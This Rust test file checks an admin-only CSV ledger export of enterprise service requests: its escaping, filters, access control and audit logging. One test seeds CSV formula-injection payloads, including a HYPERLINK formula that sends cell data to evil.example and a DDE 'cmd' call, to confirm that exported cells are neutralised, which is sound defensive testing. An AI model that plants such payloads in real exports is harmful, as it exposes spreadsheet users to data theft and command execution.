//! `GET /export/requests.csv`: the ledger for Excel, streamed, filtered like `requests`, for
//! admins only.

use futures::StreamExt;
use serde_json::json;

use crate::backend_tests;
use crate::helpers::{credit_code, TestApp};

backend_tests!(
    the_ledger_opens_in_excel_with_chinese_text_escaped,
    the_ledger_takes_the_requests_filters,
    only_admins_export_the_ledger,
    no_ledger_cell_starts_a_formula,
    a_ledger_export_is_audited_with_its_filter_and_rows
);

const TITLE: &str = "电费,\"峰谷\"计价，问题";
const DESCRIPTION: &str = "第一行, 含逗号\n第二行：\"引号\"\r\n第三行";

async fn setup(app: &TestApp) -> crate::helpers::TestUser {
    let officer = app.create_user("OFFICER", "13900000001", "雷均", json!({})).await;
    let company = app.create_company("攀华板材有限公司", &credit_code(501)).await;
    app.assign_officer(&company, &officer.id).await;
    let staff = app
        .create_user("COMPANY", "13900000002", "李兴华", json!({ "companyId": company }))
        .await;
    for (kind, title, description) in [
        ("PROBLEM", TITLE, DESCRIPTION),
        ("CONSULTATION", "入学政策咨询", "子女入学需要哪些材料？"),
        ("PROBLEM", "道路积水", "厂区门口积水"),
    ] {
        app.ok(
            &staff.token,
            "mutation($input: RaiseRequestInput!) { raiseRequest(input: $input) { request { id } } }",
            json!({ "input": { "kind": kind, "categoryId": "cat_3", "title": title, "description": description } }),
        )
        .await;
    }
    officer
}

async fn export(app: &TestApp, token: Option<&str>, query: &str) -> reqwest::Response {
    let mut request = app.http().get(app.url(&format!("/export/requests.csv{query}")));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("the server answers")
}

fn parse(body: &[u8]) -> Vec<csv::StringRecord> {
    let text = body
        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
        .expect("a UTF-8 byte-order mark first");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|r| r.expect("a well-formed CSV record"))
        .collect()
}

async fn the_ledger_opens_in_excel_with_chinese_text_escaped(app: TestApp) {
    setup(&app).await;
    let response = export(&app, Some(&app.admin_token), "").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("requests.csv"));
    let body = response.bytes().await.unwrap();
    assert_eq!(&body[..3], b"\xEF\xBB\xBF");
    let text = std::str::from_utf8(&body[3..]).unwrap();
    // Quotes are doubled and fields with commas, quotes or line breaks are quoted.
    assert!(text.contains("\"电费,\"\"峰谷\"\"计价，问题\""), "{text}");
    assert!(
        text.contains("\"第一行, 含逗号\n第二行：\"\"引号\"\"\r\n第三行\""),
        "{text}"
    );
    let records = parse(&body);
    assert_eq!(records.len(), 4, "a header and three requests");
    let header: Vec<&str> = records[0].iter().collect();
    assert_eq!(header[0], "编号");
    let column = |name: &str| header.iter().position(|h| *h == name).unwrap();
    let first = &records[1];
    assert_eq!(&first[column("编号")], "QY-2026-000001");
    // Raised at 01:30 UTC: 09:30 in the zone.
    assert_eq!(&first[column("提交时间")], "2026-03-02 09:30:00");
    assert_eq!(&first[column("企业")], "攀华板材有限公司");
    assert_eq!(&first[column("标题")], TITLE);
    assert_eq!(&first[column("诉求内容")], DESCRIPTION);
    assert_eq!(&first[column("类型")], "诉求");
    assert_eq!(&first[column("渠道")], "APP");
    assert_eq!(&first[column("类别")], "供电");
    assert_eq!(&first[column("状态")], "待受理");
    assert_eq!(&first[column("服务专员")], "雷均");
    assert_eq!(&first[column("是否超期")], "否");
    assert_eq!(&records[2][column("类型")], "咨询");

    // Read a page of one row at a time, the stream gives the same bytes as the route.
    let filter = zhitong::requests::repo::RequestFilter::default();
    let chunks: Vec<Vec<u8>> =
        zhitong::stats::export::ledger_csv(app.state.db.clone(), app.state.config.time_zone, filter, 1)
            .map(|chunk| chunk.expect("a chunk"))
            .collect()
            .await;
    assert_eq!(chunks.len(), 4, "three pages of one row and an empty last page");
    assert_eq!(chunks.concat(), body.to_vec());
}

async fn the_ledger_takes_the_requests_filters(app: TestApp) {
    let officer = setup(&app).await;
    let token = Some(app.admin_token.as_str());
    let rows = |body: &[u8]| parse(body).len() - 1;
    let body = export(&app, token, "?kind=CONSULTATION").await.bytes().await.unwrap();
    assert_eq!(rows(&body), 1);
    let body = export(&app, token, "?status=SUBMITTED,ACCEPTED&text=%E7%A7%AF%E6%B0%B4")
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(rows(&body), 1, "道路积水 only");
    let body = export(&app, token, &format!("?officerId={}&kind=PROBLEM", officer.id))
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(rows(&body), 2);
    let body = export(&app, token, "?createdFrom=2026-03-02T02:00:00Z")
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(rows(&body), 0, "a header alone when nothing matches");
    assert_eq!(export(&app, token, "?kind=NOPE").await.status(), 400);
    assert_eq!(export(&app, token, "?companyId=usr_1").await.status(), 400);
    assert_eq!(export(&app, token, "?colour=red").await.status(), 400);
}

async fn only_admins_export_the_ledger(app: TestApp) {
    let officer = setup(&app).await;
    let response = export(&app, Some(&officer.token), "").await;
    assert_eq!(response.status(), 403);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
    assert_eq!(export(&app, None, "").await.status(), 401);
    assert_eq!(export(&app, Some("not-a-token"), "").await.status(), 401);
}

/// OWASP's formula starts (https://owasp.org/www-community/attacks/CSV_Injection).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

fn starts_a_formula(cell: &str) -> bool {
    cell.trim_start_matches([' ', '\u{a0}', '\u{3000}'])
        .starts_with(FORMULA_STARTS)
}

async fn no_ledger_cell_starts_a_formula(app: TestApp) {
    let company = app
        .create_company("=HYPERLINK(\"http://evil.example\",\"点我\")", &credit_code(502))
        .await;
    let staff = app
        .create_user("COMPANY", "13900000003", "@王五", json!({ "companyId": company }))
        .await;
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "   =1+1",
        "\u{3000}@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut raised = 0;
    for payload in payloads {
        // The same text as the title and, in a quoted multi-line cell, as the description,
        // alone and after a line break.
        let description = format!("{payload}\n第二行\n{payload}");
        let title = payload.trim_start_matches(['\t', '\r']);
        app.ok(
            &staff.token,
            "mutation($input: RaiseRequestInput!) { raiseRequest(input: $input) { request { id } } }",
            json!({ "input": { "kind": "PROBLEM", "categoryId": "cat_3", "title": title, "description": description } }),
        )
        .await;
        raised += 1;
    }
    let body = export(&app, Some(&app.admin_token), "").await.bytes().await.unwrap();
    let records = parse(&body);
    assert_eq!(records.len(), raised + 1);
    let header: Vec<&str> = records[0].iter().collect();
    let title = header.iter().position(|h| *h == "标题").unwrap();
    let description = header.iter().position(|h| *h == "诉求内容").unwrap();
    for record in &records {
        for cell in record.iter() {
            assert!(!starts_a_formula(cell), "a cell a spreadsheet would run: {cell:?}");
        }
    }
    // The value stays readable: the stored text behind one leading quote.
    let stored: Vec<(String, String)> = app
        .ok(
            &app.admin_token,
            "{ requests(first: 50) { edges { node { title description } } } }",
            json!({}),
        )
        .await["requests"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .map(|e| {
            (
                e["node"]["title"].as_str().unwrap().to_string(),
                e["node"]["description"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (record, (stored_title, stored_description)) in records[1..].iter().zip(&stored) {
        assert!(
            starts_a_formula(stored_title),
            "the test stores a dangerous title: {stored_title:?}"
        );
        assert_eq!(record[title], format!("'{stored_title}"));
        assert_eq!(record[description], format!("'{stored_description}"));
    }
    assert_eq!(
        &records[1][header.iter().position(|h| *h == "企业").unwrap()],
        "'=HYPERLINK(\"http://evil.example\",\"点我\")"
    );
    // Every cell is quoted (OWASP: wrap each cell in double quotes).
    let text = std::str::from_utf8(&body[3..]).unwrap();
    assert!(text.starts_with("\"编号\",\"提交时间\","), "{text}");
}

async fn a_ledger_export_is_audited_with_its_filter_and_rows(app: TestApp) {
    setup(&app).await;
    let response = export(&app, Some(&app.admin_token), "?kind=PROBLEM&text=%E7%A7%AF%E6%B0%B4").await;
    assert_eq!(response.status(), 200);
    response.bytes().await.unwrap();
    let log = app
        .ok(
            &app.admin_token,
            "{ auditLog(filter: { action: \"exportLedger\" }) { totalCount edges { node { actor { id } targetType targetId after } } } }",
            json!({}),
        )
        .await;
    assert_eq!(log["auditLog"]["totalCount"], 1, "{log:#}");
    let entry = &log["auditLog"]["edges"][0]["node"];
    assert_eq!(entry["actor"]["id"], app.admin_id.as_str());
    assert_eq!(entry["targetType"], "ledger");
    assert_eq!(entry["after"]["filter"], json!({ "kind": "PROBLEM", "text": "积水" }));
    assert_eq!(entry["after"]["rows"], 1);
    // A refused export (bad filter, or not an admin) leaves no entry.
    assert_eq!(export(&app, Some(&app.admin_token), "?kind=NOPE").await.status(), 400);
    let log = app
        .ok(
            &app.admin_token,
            "{ auditLog(filter: { action: \"exportLedger\" }) { totalCount } }",
            json!({}),
        )
        .await;
    assert_eq!(log["auditLog"]["totalCount"], 1);
}
